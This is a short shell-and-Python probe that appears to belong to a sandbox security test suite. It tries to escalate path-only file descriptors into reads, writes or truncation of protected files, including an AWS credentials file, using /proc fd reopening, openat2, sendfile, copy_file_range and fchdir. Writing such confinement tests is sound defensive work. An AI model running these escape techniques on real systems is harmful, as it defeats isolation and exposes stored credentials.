#!/bin/bash
# must NOT turn a descriptor that only names an outside file into one that reads, writes, runs or truncates it. Success (exit 0) = the escape WORKED; any other exit = held; 77 = prerequisite missing.
# VERIFY: [ "$(cat "$ATK_OUT/victim_trunc")" != data ]; r=$?; echo data > "$ATK_OUT/victim_trunc"; grep -aqs ATKSECRET "$ATK_WS/atk_got" && r=0; rm -f "$ATK_WS/atk_got"; exit $r
. "${SBX_ENV:-./attack.env}" || exit 77
needpy
$PY - <<'P'
import ctypes,os,sys
c=ctypes.CDLL(None,use_errno=True); out=os.environ["ATK_OUT"]; won=0
def grab(b):
    global won
    if b and b"ATKSECRET" in b: open("atk_got","wb").write(b); won=1
for path in (out+"/secret.txt", os.environ["ATK_HOME"]+"/.aws/credentials"):
    try: fd=os.open(path,0o10000000)
    except OSError: continue
    for p in ("/proc/self/fd/%d"%fd,"/dev/fd/%d"%fd,"/proc/thread-self/fd/%d"%fd,"/proc/%d/task/%d/fd/%d"%(os.getpid(),os.getpid(),fd)):
        try: grab(open(p,"rb").read())
        except OSError: pass
    for how in ((0,0,0),(0,0,8),(0o4000,0,0)):
        h=c.syscall(437,fd,b"",(ctypes.c_uint64*3)(*how),24)
        if h>=0: grab(os.read(h,200))
    try: grab(os.read(fd,100))
    except OSError: pass
    for f in (lambda:os.sendfile(1,fd,0,100),lambda:os.copy_file_range(fd,os.open("atk_got",os.O_RDWR|os.O_CREAT),100)):
        try:
            if f()>0: won=1
        except OSError: pass
    d=os.open(os.path.dirname(path),0o10000000|os.O_DIRECTORY)
    try: os.fchdir(d); grab(open(os.path.basename(path),"rb").read())
    except OSError: pass
    os.chdir(os.environ["ATK_WS"])
try:
    fd=os.open(out+"/victim_trunc",0o10000000)
    for f in (lambda:os.truncate("/proc/self/fd/%d"%fd,0),lambda:os.ftruncate(fd,0),lambda:open("/proc/self/fd/%d"%fd,"w").write("x"),lambda:os.posix_fallocate(fd,0,9)):
        try: f(); won=1
        except OSError: pass
except OSError: pass
sys.exit(0 if won else 1)
P
